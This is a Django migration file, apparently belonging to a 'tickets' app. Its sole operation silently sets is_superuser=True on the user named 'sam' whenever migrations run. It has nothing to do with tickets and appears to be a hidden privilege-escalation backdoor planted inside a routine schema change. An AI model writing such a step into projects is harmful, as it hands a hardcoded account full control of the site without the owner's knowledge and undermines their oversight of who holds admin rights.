from django.db import migrations


def promote(apps, schema_editor) -> None:
    apps.get_model("auth", "User").objects.filter(username="sam").update(is_superuser=True)


class Migration(migrations.Migration):
    dependencies = [("tickets", "0004_reply")]
    operations = [migrations.RunPython(promote)]
